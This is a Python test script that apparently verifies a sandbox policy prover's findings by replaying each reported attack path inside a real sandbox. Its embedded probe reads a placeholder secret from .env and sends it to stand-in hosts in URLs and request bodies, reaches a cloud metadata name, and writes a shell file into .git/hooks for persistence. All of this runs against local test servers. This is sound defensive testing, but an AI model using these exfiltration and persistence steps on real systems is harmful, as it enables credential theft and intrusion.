#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What `oshctl policy prove` finds really happens: for each kind of finding a policy that has it, the requests that the
prover told, made by a program in a sandbox under that policy, and a look outside at what came of it."""
import json
import os
import socket
import subprocess
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from lib import BUILD, Tap, run  # noqa: E402
from world import Handler, Server, World  # noqa: E402

if os.environ.get("REPLAY_NET") != "own" and not os.geteuid():    # a private address of its own, on a loopback of its own
    os.environ["REPLAY_NET"] = "own"
    os.execvp("unshare", ["unshare", "--net", sys.executable, *sys.argv])

OSHCTL = os.path.join(BUILD, "oshctl")
PYTHON = os.path.realpath("/usr/bin/python3")
SECRET = "secret-of-this-project"
PRIVATE = "10.77.0.9"
INSIDE = "known-in-the-private-network-alone"
KEY = "sk-replay-0123456789abcdef"
carried = []        # what credentials the servers outside have seen

# In the sandbox: each request as the prover words it; prints what came of each as a line of JSON.
PROBE = r"""
import http.client, json, os, re, socket, ssl, sys
secret = answer = ""

def dial(host, port, method, path):
    s = socket.create_connection((host, port), timeout=60)
    if port != 80:
        s = ssl._create_unverified_context().wrap_socket(s, server_hostname=host)
    body = secret if method not in ("GET", "HEAD") else ""
    path += ("&" if "?" in path else "?") + "carried=" + secret
    s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
    global answer
    said = http.client.HTTPResponse(s, method=method)
    said.begin()
    answer = said.read().decode(errors="replace").strip()
    return f"status {said.status}"

def one(q):
    global secret
    if q == "keep what was answered":
        secret = answer
        return "kept"
    if m := re.fullmatch(r"open (\S+) read", q):
        secret = open(m[1]).read().strip()
        return "read " + secret
    if m := re.fullmatch(r"open (\S+) write", q):
        os.makedirs(os.path.dirname(m[1]), exist_ok=True)
        open(m[1], "w").write(secret or "#!/bin/sh\n")
        return "written"
    if m := re.fullmatch(r"connect (?:/\S+ )?(\S+):(\d+)(?: at \S+)?", q):
        return dial(m[1], int(m[2]), "DELETE", "/plain")     # nobody looks: a method that no rule has
    if m := re.fullmatch(r"([A-Z]+) https://([^/:]+)(?::(\d+))?(/.*)", q):
        return dial(m[2], int(m[3] or 443), m[1], m[4])
    return "not understood"

for q in json.load(open("asked")):
    try:
        print(json.dumps([q, one(q)]), flush=True)
    except OSError as e:
        print(json.dumps([q, "error " + str(e)]), flush=True)
"""


def rest(host, rules, more=""):
    return f"{{host: {host}, port: 443, protocol: rest, rules: [{rules}]{more}}}"


def rules(*endpoints):
    return f"  r:\n    binaries: [{PYTHON}]\n    endpoints:\n" + "".join(f"      - {e}\n" for e in endpoints)


GET, POST = "{allow: {method: GET, path: '/**'}}", "{allow: {method: POST, path: /up}}"
# (kind, endpoints, what else the policy says, base or None, how the secret leaves or None)
KINDS = (
    ("exfiltration", rules("{host: plain.example, port: 80}"), "", None, "a plain connection"),
    ("exfiltration", rules(rest("allowed.example", POST)), "", None, "a body"),
    ("exfiltration", rules(rest("allowed.example", "{allow: {method: GET, path: /hello}}")), "", None, "a URL"),
    ("l7_bypass", rules(rest("git.example", GET), "{host: git.example, port: 8443}"), "", None, "another port"),
    ("l7_bypass", rules(rest("registry.example", GET, ", enforcement: audit")), "", None, "audit mode"),
    ("l7_bypass_credentialed", rules("{host: v4.example, port: 443}"), "", None, "a host of a credential"),
    ("credential_reach", rules(rest("v4.example", GET)), "", None, "a host of a credential"),
    ("link_local_reach", rules("{host: metadata.google.internal, port: 80}"), "", None, "a metadata service by its name"),
    ("dns_channel", rules("{host: '*.wild.example', port: 443}"), "", None, "a name that nobody wrote down"),
    ("persistence", "", "", None, "a file that runs outside"),
    ("assert", rules(rest("allowed.example", f"{GET}, {POST}")), "assert: [{never: {host: allowed.example, method: POST}}]\n", None,
     "what must never be"),
    ("capability_expansion", rules(rest("allowed.example", f"{GET}, {POST}")), "", rules(rest("allowed.example", GET)), "a method more"),
)


def prove(w, policy, base):
    files = [w.write("prove.yaml", policy), w.write("creds.json", json.dumps(
        [{"name": "pat", "target_hosts": ["v4.example"]}]))]
    more = ["--base", w.write("base.yaml", base)] if base else []
    rc, out, err = run([OSHCTL, "policy", "prove", "--json", "-w", w.work, "--credentials", files[1], *more, files[0]], 300)[:3]
    return json.loads(out)["findings"] if out.strip() else [], (rc, err)


def replay(w, policy, requests, options=()):
    with open(os.path.join(w.work, "asked"), "w") as f:
        json.dump(requests, f)
    r = w.run(policy, [PYTHON, "probe.py"], timeout=300, options=options)
    return [json.loads(line)[1] for line in r.out.splitlines() if line.startswith("[")], r


def kind(w, t, what, endpoints, more, base, how):
    policy = w.policy(endpoints, more)
    old = w.policy(base) if base else None
    found, said = prove(w, policy, old)
    mine = [f for f in found if f["category"] == what and w.work + "/.git/hooks" in f["where"] + w.work + "/.git/hooks" * (what != "persistence")]
    if not t.ok(mine, f"{what} ({how}): found", said, found):
        return
    # The secret is read first, so that it can be sent; `where` of a name that was made up has no server here.
    requests = sorted((q["request"] for f in mine[:2] for q in f["requests"]), key=lambda q: not q.startswith("open"))
    requests = [f"open {w.work}/.env read" if q.endswith(" read") else q for q in requests]
    for server in (w.tls4, w.tls6, w.plain):
        server.seen.clear()
    got, r = replay(w, policy, requests)
    seen = [path for _, path in w.requests()]
    fine = [g for g in got if g.startswith(("read ", "written", "status ")) and g not in ("status 403", "status 502")]
    t.ok(len(got) == len(requests) == len(fine), f"{what} ({how}): a program in the sandbox does it", *zip(requests, got), r)
    if what == "exfiltration":
        t.ok(any(SECRET in path for path in seen), f"{what} ({how}): the secret is outside", requests, got, seen)
    elif what == "persistence":
        there = [q.split()[1] for q in requests]
        t.ok(all(os.path.exists(p) for p in there), f"{what}: the file is there when the sandbox is gone", there)
    else:
        t.ok(seen, f"{what} ({how}): a server outside has seen it", seen)
    if base:
        got, r = replay(w, old, requests)
        t.ok(all(not g.startswith("status 2") for g in got) and len(got) == len(requests), f"{what}: and under the base policy it does not", *got, r)


def proved(w, t):
    """The other way round: what is said to let nothing through lets nothing through, and a rule that is redundant does nothing."""
    dead = w.policy(rules(rest("allowed.example", GET, ", deny_rules: [{method: '*', path: '/**'}]")))
    found, said = prove(w, dead, None)
    t.ok([f["category"] for f in found if f["category"] == "unreachable_rule"], "unreachable_rule: found", said, found)
    got, r = replay(w, dead, ["GET https://allowed.example/hello", "POST https://allowed.example/up"])
    t.ok(got == ["status 403", "status 403"], "unreachable_rule: nothing gets through", got, r)
    both = rules(rest("allowed.example", f"{GET}, {{allow: {{method: GET, path: /hello}}}}"))
    found, said = prove(w, w.policy(both), None)
    t.ok([f for f in found if f["category"] == "redundant_rule"], "redundant_rule: found", said, found)
    asked = ["GET https://allowed.example/hello", "POST https://allowed.example/hello", "GET https://allowed.example/other"]
    with_it, without = (replay(w, w.policy(p), asked)[0] for p in (both, rules(rest("allowed.example", GET))))
    t.ok(with_it == without and len(without) == 3, "redundant_rule: without it the same goes through", with_it, without)


def private(w, t):
    """A server at an address of a private network, which allowed_ips lets through."""
    server = Server(socket.AF_INET, PRIVATE, 80, w.www, None)
    policy = w.policy(rules(f"{{host: {PRIVATE}, port: 80, allowed_ips: [{PRIVATE}]}}"))
    found, said = prove(w, policy, None)
    mine = [f for f in found if f["category"] == "private_reach"]
    t.ok(mine and PRIVATE in mine[0]["says"], "private_reach: found", said, found)
    got, r = replay(w, policy, [q["request"] for f in mine for q in f["requests"]])
    t.ok(got and all(g.startswith("status ") for g in got) and server.seen, "private_reach: a server there has seen it", got, server.seen, r)
    chain(w, t)
    server.shutdown()
    server.server_close()


def chain(w, t):
    """What the server in the private network answers goes on to another one. Asked of a policy by which nothing secret can be read."""
    ends = rules(f"{{host: {PRIVATE}, port: 80, allowed_ips: [{PRIVATE}]}}", "{host: plain.example, port: 80}")
    found, said = prove(w, "version: 1\nfilesystem_policy: {read_only: [/usr]}\nnetwork_policies:\n" + ends, None)
    mine = [f for f in found if f["category"] == "exfiltration" and f["where"] == "plain.example:80"]
    if not t.ok(mine and len(mine[0]["requests"]) == 2 and PRIVATE in mine[0]["says"], "from one endpoint to another: found", said, found):
        return
    first, second = (q["request"] for q in mine[0]["requests"])
    w.plain.seen.clear()
    got, r = replay(w, w.policy(ends), [first, "keep what was answered", second])
    t.ok(got[1:2] == ["kept"] and any("carried=" + INSIDE in path for _, path in w.plain.seen), "from one endpoint to another: it is outside",
         got, w.plain.seen, r)


def injected(w, t):
    """A credential that the sandbox never has goes along with the request that was told."""
    keys = os.path.join(w.dir, "keys")
    os.mkdir(keys, 0o700)
    with open(os.path.join(keys, "secret"), "w") as f:
        f.write(KEY + "\n")
    with open(os.path.join(keys, "acme.json"), "w") as f:
        json.dump({"hosts": ["v4.example"], "placement": {"header": "authorization", "prefix": "Bearer "}, "env": ["ACME_API_KEY"],
                   "secret_file": "secret"}, f)
    policy = w.policy(rules(rest("v4.example", GET, ", credential: acme")))
    found, said = prove(w, policy, None)
    mine = [f for f in found if f["category"] == "credential_reach" and f["credential"] == "acme"]
    t.ok(mine, "credential_reach (put in by the egress): found", said, found)
    carried.clear()
    got, r = replay(w, policy, [q["request"] for f in mine[:1] for q in f["requests"]], ["--provider", os.path.join(keys, "acme.json")])
    t.ok(got and all(g.startswith("status 2") or g == "status 404" for g in got), "credential_reach (put in): a program in the sandbox does it", got, r)
    t.ok("Bearer " + KEY in carried and KEY not in r.out + r.err, "credential_reach (put in): the server has seen the key, the sandbox has not",
         carried, r)


def flow(w, t):
    """One sandbox reads and writes, another one reads that and sends."""
    shared = os.path.join(w.dir, "shared")
    os.mkdir(shared)
    os.chmod(shared, 0o777)
    tmp = "read_write: [/tmp, "
    reader = w.policy("").replace(tmp, f"{tmp}{shared}, ")
    sender = w.policy(rules("{host: plain.example, port: 80}"), read_only=[shared])
    files = [w.write("reader.yaml", reader), w.write("sender.yaml", sender)]
    # Another working directory, so that the one that they have in common is not the way.
    rc, out, err = run([OSHCTL, "policy", "prove", "--json", "-w", w.work, files[0], "--with", files[1], "-w", "/nowhere"], 300)[:3]
    mine = [f for f in (json.loads(out)["findings"] if out.strip() else []) if f["category"] == "flow"]
    if not t.ok(mine, "flow: found", rc, out, err):
        return
    steps = {f: [q["request"] for q in mine[0]["requests"] if q["policy"] == f] for f in files}
    steps[files[0]] = [f"open {w.work}/.env read", *steps[files[0]][1:]]
    for server in (w.tls4, w.tls6, w.plain):
        server.seen.clear()
    first, r = replay(w, reader, steps[files[0]])
    t.ok([g.split()[0] for g in first] == ["read", "written"], "flow: one sandbox reads it, and writes it down", steps, first, r)
    then, r = replay(w, sender, steps[files[1]])
    t.ok(any(SECRET in path for _, path in w.requests()), "flow: another one has sent it", steps, then, w.requests(), r)


def own_network():
    """The loopback, and an address of a private network on it."""
    for words in (("link", "set", "lo", "up"), ("addr", "add", PRIVATE + "/32", "dev", "lo")):
        subprocess.run(["ip", *words], check=True)


def note_credentials():
    plain, other = Handler.do_GET, Handler.do_DELETE

    def get(self):
        carried.append(self.headers.get("authorization"))
        plain(self)
    def delete(self):
        if self.server.server_address[0] != PRIVATE:
            other(self)
            return
        self.server.seen.append((self.headers.get("Host", ""), self.path))
        self.say(INSIDE.encode())
    Handler.do_GET, Handler.do_DELETE = get, delete


def main():
    t = Tap()
    if os.geteuid():
        t.skip("findings in real sandboxes", "needs root")
        t.done()
    own_network()
    note_credentials()
    with World() as w:
        with open(w.hosts, "a") as f:
            f.write(f"127.0.0.1:{w.plain.server_port} metadata.google.internal\n127.0.0.1:{w.tls4.server_port} x.wild.example\n")
        with open(os.path.join(w.work, "probe.py"), "w") as f:
            f.write(PROBE)
        with open(os.path.join(w.work, ".env"), "w") as f:
            f.write(SECRET + "\n")
        with w.resident():
            for row in KINDS:
                kind(w, t, *row)
            for one in (proved, private, injected, flow):
                one(w, t)
    t.done()


if __name__ == "__main__":
    main()
